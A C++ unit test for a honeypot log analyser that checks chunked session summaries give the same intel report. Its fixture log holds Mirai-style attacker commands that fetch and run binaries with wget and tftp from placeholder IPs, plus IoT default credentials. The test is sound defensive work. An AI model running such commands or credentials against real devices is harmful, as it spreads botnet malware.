// SessionSummariser with the intel analyses on: wherever a Cowrie JSON log is cut into chunks,
// the whole report (paper tables, credentials, sources, indicators, families, sequences with
// their example sessions, first appearances and timelines), every row shown, is the same when the
// workers summarise the sessions that lie whole in a chunk as when the merge takes every record.
// The log has sessions crossing chunks, a key reused after its session closed, records out of
// time order, events, logins, downloads and records without a session, and a session with more
// indicator occurrences than a session keeps (the first ones, in input order, are kept).
#include "analyze/session_summariser.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "analyze/analysis.h"
#include "analyze/chunk_builder.h"
#include "analyze/cowrie_json_reader.h"
#include "analyze/intel/credential_table.h"
#include "analyze/intel/family_table.h"
#include "analyze/intel/sequence_examples.h"
#include "analyze/intel/time_collector.h"
#include "analyze/report/report_format.h"
#include "analyze/report/sequence_groups.h"
#include "analyze/report/sequence_transitions.h"
#include "analyze/report/time_report.h"
#include "analyze_test_support.h"

namespace busytrap::analyze {
namespace {

std::string event(const std::string& id, const std::string& session, int second, const std::string& more = "") {
  std::string line = R"({"eventid":")" + id + "\"";
  if (!session.empty()) line += R"(,"session":")" + session + "\"";
  const std::string ts = std::to_string(second % 60);
  line += R"(,"timestamp":"2024-03-01T1)" + std::to_string(second / 3600 % 10) + ":" +
          std::to_string(10 + second / 60 % 50) + ":" + (ts.size() == 1 ? "0" : "") + ts + "Z\"";
  return line + more + "}\n";
}
std::string connect(const std::string& session, int second, const std::string& ip) {
  return event("cowrie.session.connect", session, second, R"(,"src_ip":")" + ip + R"(","protocol":"telnet")");
}
std::string command(const std::string& session, int second, const std::string& input) {
  return event("cowrie.command.input", session, second, R"(,"input":")" + input + "\"");
}
std::string login(const std::string& session, int second, const std::string& user, const std::string& password,
                  bool success) {
  return event(success ? "cowrie.login.success" : "cowrie.login.failed", session, second,
               R"(,"username":")" + user + R"(","password":")" + password + "\"");
}
std::string download(const std::string& session, int second, const std::string& url) {
  return event("cowrie.session.file_download", session, second,
               R"(,"url":")" + url + R"(","shasum":")" + std::string(64, 'a') + "\"");
}
std::string closed(const std::string& session, int second) { return event("cowrie.session.closed", session, second); }

std::vector<std::string> small_log() {
  return {
      connect("a", 1, "10.0.0.1"),
      login("a", 2, "root", "xc3511", true),
      connect("b", 2, "10.0.0.2"),
      command("a", 5, "enable; system; shell; sh"),
      login("b", 3, "admin", "admin", false),
      command("a", 4, "/bin/busybox ECCHI"),  // earlier than a's previous record
      command("b", 6, "cd /tmp; wget http://192.0.2.7/bins/mirai.arm7; chmod 777 mirai.arm7"),
      download("b", 7, "http://192.0.2.7/bins/mirai.arm7"),
      event("cowrie.command.input", "", 7, R"(,"input":"wget http://198.51.100.1/x.sh")"),  // no session
      download("", 8, "http://198.51.100.2/y"),
      login("", 8, "guest", "guest", false),
      connect("c", 8, "10.0.0.1"),  // a's address again
      command("c", 9, "/bin/busybox QWERT; tftp -g -r m.mips 203.0.113.9"),
      command("a", 5, "/bin/busybox ECCHI"),  // a tie with "enable; ..."
      closed("c", 10),
      command("c", 11, "echo key c again"),  // a new session with a closed one's key
      closed("a", 12),
      command("b", 13, "/bin/busybox MIRAI"),
      connect("d", 14, "10.0.0.4"),
      login("d", 14, "root", "vizxv", true),
      command("d", 15, "enable; system; shell; sh"),
      command("d", 16, "/bin/busybox ECCHI"),
      closed("d", 17),
      closed("b", 18),
      command("c", 19, "cat /proc/cpuinfo"),
      closed("c", 20),
      connect("e", 21, "10.0.0.5"),
      command("e", 22, "enable; system; shell; sh"),  // never closed
      // Cut after p's first record, p (crossing chunks) comes before q (whole in the next chunk)
      // there, with the same new sequence and indicator: p is concluded first, so it is the
      // sequence's example and its address is the indicator's first.
      connect("p", 23, "10.0.0.6"),
      command("p", 24, "uname -a"),
      command("p", 25, "wget http://192.0.2.50/pq.sh"),
      connect("q", 25, "10.0.0.7"),
      command("q", 26, "uname -a"),
      command("q", 27, "wget http://192.0.2.50/pq.sh"),
      closed("p", 28),
      closed("q", 28),
  };
}

// A session with over a thousand indicator occurrences, its download events in between.
std::vector<std::string> heavy_log() {
  std::vector<std::string> lines = {connect("h", 0, "10.0.0.9"), connect("k", 0, "10.0.0.10")};
  for (int i = 0; i < 420; ++i) {
    lines.push_back(command("h", i, "wget http://192.0.2." + std::to_string(i % 250) + "/f" + std::to_string(i) + ".sh"));
    if (i % 50 == 0) lines.push_back(download("h", i, "http://198.51.100.3/d" + std::to_string(i)));
    if (i % 100 == 0) lines.push_back(command("k", i, "wget http://203.0.113.1/k.sh"));
  }
  lines.push_back(closed("h", 500));
  lines.push_back(closed("k", 501));
  return lines;
}

// The whole report of `lines` cut into chunks of `per_chunk` lines, built in turn by two workers
// (caches and dictionaries kept across their chunks, as the pipeline's), summarised or not.
std::string report_of(const std::vector<std::string>& lines, std::size_t per_chunk, bool summarise) {
  AnalysisOptions options;
  options.intel = intel::IntelSelection::all();
  auto families = std::make_shared<intel::FamilyTable>();
  std::string error;
  EXPECT_TRUE(families->load(core::data_directory() + "/families.toml", error)) << error;
  options.families = families;
  Analysis analysis(options);
  std::vector<intel::TimelineSpec> timelines;
  for (const char* text : {"sessions", "family:hajime"}) {
    timelines.push_back(intel::parse_timeline_spec(text, error).value());
  }
  intel::TimeCollector time(timelines, intel::TimeBucket::Hour, families.get());
  analysis.add_observer(&time);
  intel::SequenceExamples examples;
  analysis.add_observer(&examples);
  EXPECT_TRUE(analysis.takes_summaries());

  ChunkKeyCache caches[] = {ChunkKeyCache(0), ChunkKeyCache(1)};
  intel::WorkerIntel workers[2];
  workers[0].id = 1;
  workers[1].id = 2;
  SessionSummariser summarisers[2];
  std::size_t chunk = 0;
  for (std::size_t first = 0; first < lines.size(); first += per_chunk, ++chunk) {
    std::string text;
    for (std::size_t i = first; i < std::min(lines.size(), first + per_chunk); ++i) text += lines[i];
    const std::size_t length = text.size();
    text.append(kJsonPadding, '\0');
    ChunkResult result;
    {
      ChunkBuilder builder(options, result, &workers[chunk % 2], &caches[chunk % 2]);
      CowrieJsonReader().parse(ChunkInput{std::string_view(text.data(), length), text.data() + text.size()}, builder);
    }
    if (summarise) summarisers[chunk % 2].summarise(result, caches[chunk % 2], options);
    analysis.merge(result);
  }
  analysis.finish();

  ReportLimits limits;
  limits.set_all(0);
  AnalyzeReport report = build_report(analysis, PipelineReport{}, limits, testing::load_linux_programs());
  intel::CredentialTable mirai;
  EXPECT_TRUE(mirai.load(core::data_directory() + "/credentials/mirai.txt", error)) << error;
  report.intel = build_intel_report(analysis.intel(), mirai, limits.intel, families.get());
  add_sequence_transitions(report.intel, analysis, limits.intel);
  add_sequence_groups(report.intel, analysis, examples, limits.intel);
  add_time_report(report.intel, analysis, time, limits.intel, core::kNoTimestamp, families.get());
  return render_report(report, ReportFormat::Json, false);
}

// (Against the same cut not summarised: which session is concluded first, and so is a sequence's
// example or an indicator's first address, follows the chunks' order of first appearance.)
TEST(SessionSummariserIntel, SameReportWhereverTheChunksAreCut) {
  const std::vector<std::string> lines = small_log();
  for (std::size_t per_chunk = 1; per_chunk <= lines.size(); ++per_chunk) {
    EXPECT_EQ(report_of(lines, per_chunk, true), report_of(lines, per_chunk, false))
        << "chunks of " << per_chunk << " lines";
  }
}

TEST(SessionSummariserIntel, ReportHasWhatTheLogHas) {
  const std::vector<std::string> lines = small_log();
  for (const std::size_t per_chunk : {std::size_t{4}, lines.size()}) {
    const std::string report = report_of(lines, per_chunk, true);
    // Logins of sessions and the one without; the Mirai table's pairs; indicators of commands,
    // of downloads and of the record without a session; a's address seen in two sessions.
    for (const char* expected : {"xc3511", "vizxv", "guest", "192.0.2.7", "mirai.arm7", "203.0.113.9",
                                 "198.51.100.1", "198.51.100.2", "10.0.0.1", "hajime"}) {
      EXPECT_NE(report.find(expected), std::string::npos) << expected << " with chunks of " << per_chunk;
    }
  }
}

TEST(SessionSummariserIntel, IndicatorLimitKeepsTheFirstOnesWhereverTheChunksAreCut) {
  const std::vector<std::string> lines = heavy_log();
  const std::string whole = report_of(lines, lines.size(), false);
  // The limit is reached: the URLs of the session's first records are kept, its last ones' dropped.
  EXPECT_NE(whole.find("\"http://192.0.2.0/f0.sh\""), std::string::npos);
  EXPECT_EQ(whole.find("\"http://192.0.2.169/f419.sh\""), std::string::npos);
  EXPECT_EQ(whole.find("\"indicators_dropped\":0"), std::string::npos);
  EXPECT_NE(whole.find("\"indicators_dropped\":"), std::string::npos);
  for (const std::size_t per_chunk : {std::size_t{1}, std::size_t{7}, std::size_t{64}, std::size_t{200}, lines.size()}) {
    EXPECT_EQ(report_of(lines, per_chunk, true), report_of(lines, per_chunk, false))
        << "chunks of " << per_chunk << " lines";
  }
}

}  // namespace
}  // namespace busytrap::analyze
